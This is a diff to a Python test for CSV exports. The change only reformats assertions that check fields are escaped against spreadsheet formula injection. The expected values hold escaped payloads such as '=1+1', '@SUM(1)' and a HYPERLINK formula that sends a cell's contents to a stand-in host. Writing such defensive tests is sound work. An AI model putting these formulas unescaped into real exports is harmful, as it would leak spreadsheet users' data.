@@ -339,11 +339,14 @@ class TestExports:
         row = csv_rows(response)[1]
         assert row[2] == "Ahmad, '=1+1"
         assert row[8] == 'Kasubbag;\'=HYPERLINK("http://x/?"&B2,"klik")'
-        assert row[9] == 'KPU|\'@SUM(1)\n\'-2+3, "\'+4'
+        assert row[9] == "KPU|'@SUM(1)\n'-2+3, \"'+4"
         for separator in (",", ";", "|", "\t"):
             for line in text.splitlines()[1:]:
                 for field in line.split(separator):
-                    assert not field.strip(' "').startswith(("=", "+", "@", "-")), (separator, field)
+                    assert not field.strip(' "').startswith(("=", "+", "@", "-")), (
+                        separator,
+                        field,
+                    )
 
     def test_the_csv_is_separated_by_semicolons_for_excel_in_indonesian(
         self, client, world, user_with
